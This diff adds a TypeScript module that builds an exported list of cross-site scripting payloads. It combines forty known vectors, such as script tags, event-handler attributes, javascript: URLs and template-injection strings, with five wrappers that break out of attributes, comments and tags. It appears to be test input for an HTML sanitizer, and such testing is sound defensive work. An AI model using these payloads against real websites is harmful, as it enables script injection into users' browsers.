@@ -1,0 +1,55 @@
+/** Text that is a script wherever it is taken for markup: well-known vectors, each alone and in four dresses that close what is open. */
+
+const SCRIPT = 'script'
+const VECTORS = [
+  `<${SCRIPT}>alert(1)</${SCRIPT}>`,
+  `<${SCRIPT} src=data:,alert(2)></${SCRIPT}>`,
+  '<img src=x onerror=alert(3)>',
+  '<img/src/onerror=alert(4)>',
+  '<svg onload=alert(5)>',
+  '<svg/onload=alert(6)>',
+  `<svg><${SCRIPT}>alert(7)</${SCRIPT}></svg>`,
+  '<svg><animate onbegin=alert(8) attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:alert(9)"><text x=9 y=9>go</text></a>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>',
+  '<body onload=alert(11)>',
+  '<iframe src="javascript:alert(12)"></iframe>',
+  `<iframe srcdoc="<${SCRIPT}>parent.alert(13)</${SCRIPT}>"></iframe>`,
+  '<object data="javascript:alert(14)"></object>',
+  '<embed src="javascript:alert(15)">',
+  '<a href="javascript:alert(16)">go</a>',
+  '<a href="data:text/html,<b onclick=alert(17)>">go</a>',
+  '<form action="javascript:alert(18)"><button>go</button></form>',
+  '<button formaction="javascript:alert(19)">go</button>',
+  '<input autofocus onfocus=alert(20)>',
+  '<select autofocus onfocus=alert(21)>',
+  '<textarea autofocus onfocus=alert(22)>',
+  '<details open ontoggle=alert(23)>',
+  '<video src=x onerror=alert(24)>',
+  '<audio src=x onerror=alert(25)>',
+  '<video><source onerror=alert(26)></video>',
+  '<marquee onstart=alert(27)>',
+  '<meta http-equiv=refresh content="0;javascript:alert(28)">',
+  '<link rel=stylesheet href="javascript:alert(29)">',
+  '<base href="javascript:alert(30)//">',
+  '<style>@import "javascript:alert(31)"</style>',
+  '<div style="background:url(javascript:alert(32))">',
+  '<x onclick=alert(33)>go</x>',
+  '<div onpointerenter=alert(34)>over</div>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(35)>">',
+  '<template><img src=x onerror=alert(36)></template>',
+  '{{constructor.constructor("alert(37)")()}}',
+  '${alert(38)}',
+  '&lt;img src=x onerror=alert(39)&gt;',
+  'javascript:alert(40)//%0Aalert(40)',
+]
+const DRESSES: readonly ((vector: string) => string)[] = [
+  (vector) => vector,
+  (vector) => `"'>${vector}`,
+  (vector) => `--></title></textarea></style>${vector}`,
+  (vector) => `' onmouseover=alert(0) x='${vector}`,
+  (vector) => vector.replaceAll('alert', '\\u0061lert').replaceAll('<', '<<'),
+]
+
+/** All different. */
+export const PAYLOADS: readonly string[] = DRESSES.flatMap((dress) => VECTORS.map(dress))
